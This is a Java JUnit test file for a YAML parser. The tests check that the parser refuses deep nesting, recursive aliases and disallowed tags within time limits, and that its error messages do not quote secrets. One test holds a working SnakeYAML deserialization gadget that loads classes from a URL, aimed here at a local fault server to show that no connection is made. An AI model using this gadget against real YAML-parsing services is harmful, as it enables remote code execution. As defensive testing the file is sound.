package dev.signalbox.provider.yaml;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.signalbox.testing.faults.FaultServer;
import java.io.IOException;
import java.net.URISyntaxException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Objects;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;

@Timeout(30)
class YamlDoorHostileTest {

    static Stream<Path> corpora() throws IOException, URISyntaxException {
        Path folder =
                Path.of(Objects.requireNonNull(YamlDoorHostileTest.class.getResource("/corpora/kubeconfig")).toURI());
        try (Stream<Path> files = Files.walk(folder)) {
            List<Path> all = files.filter(f -> f.toString().endsWith(".yaml") || f.toString().contains("fabric8"))
                    .filter(Files::isRegularFile).toList();
            assertThat(all).hasSizeGreaterThan(20);
            return all.stream();
        }
    }

    @ParameterizedTest
    @MethodSource("corpora")
    void everyFileIsReadOrRefusedWithASentenceWithinASecond(Path file) throws IOException {
        String text = new String(Files.readAllBytes(file), StandardCharsets.UTF_8);
        long begun = System.nanoTime();
        try {
            YamlDoor.read(text, "test");
        } catch (YamlProblem e) {
            assertThat(e.getMessage()).isNotBlank().doesNotContain("\n");
            assertThat(e.line()).isNotNegative();
        }
        assertThat(Duration.ofNanos(System.nanoTime() - begun)).isLessThan(Duration.ofSeconds(1));
    }

    @Test
    void aTagOpensNoConnection() throws Exception {
        try (FaultServer listener = FaultServer.start()) {
            String gadget = "x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\""
                    + listener.address() + "/\"]]]]";
            assertThatThrownBy(() -> YamlDoor.read(gadget, "test"))
                    .isInstanceOf(YamlProblem.class)
                    .hasMessageContaining("tag not allowed");
            assertThat(listener.hasAnotherWithin(Duration.ofMillis(50))).isFalse();
            assertThat(listener.connections()).isZero();
        }
    }

    @ParameterizedTest
    @CsvSource({"'[', 200000", "'{a: ', 200000", "'- ', 200000", "'? ', 100000", "'[{a: ', 50000"})
    void depthIsRefusedWithoutDescending(String opening, int times) {
        assertThatThrownBy(() -> YamlDoor.read(opening.repeat(times), "test")).isInstanceOf(YamlProblem.class);
    }

    @Test
    void fiftyLevelsAreReadAndFiftyTwoAreNot() throws Exception {
        assertThat(YamlDoor.read("[".repeat(50) + "]".repeat(50), "test")).isPresent();
        assertThatThrownBy(() -> YamlDoor.read("[".repeat(52) + "]".repeat(52), "test"))
                .isInstanceOf(YamlProblem.class)
                .hasMessage("line 1: nested deeper than 50 levels");
    }

    @ParameterizedTest
    @CsvSource({"'&a [*a]'", "'&a {b: *a}'", "'a: *nothing'", "'a: &a [*a, *a]'"})
    void aliasesThatLeadRoundOrNowhereAreRefused(String text) {
        assertThatThrownBy(() -> YamlDoor.read(text, "test")).isInstanceOf(YamlProblem.class);
    }

    @Test
    void aComplaintNeitherDeceivesNorQuotesTheDocument() {
        String secret = "token: ghp_Zq3xK9vB2mN7wL5tR8yU1oP4aS6dF0gH\n\tbad: x\n";
        assertThatThrownBy(() -> YamlDoor.read(secret, "test"))
                .isInstanceOf(YamlProblem.class)
                .hasMessageStartingWith("line 2")
                .hasMessageNotContaining("Zq3xK9");
        assertThatThrownBy(() -> YamlDoor.read("\"a\\u202eb\": 1\n\"a\\u202eb\": 2\n", "test"))
                .hasMessage("line 2: \"a‹U+202E›b\" stands here twice");
    }
}
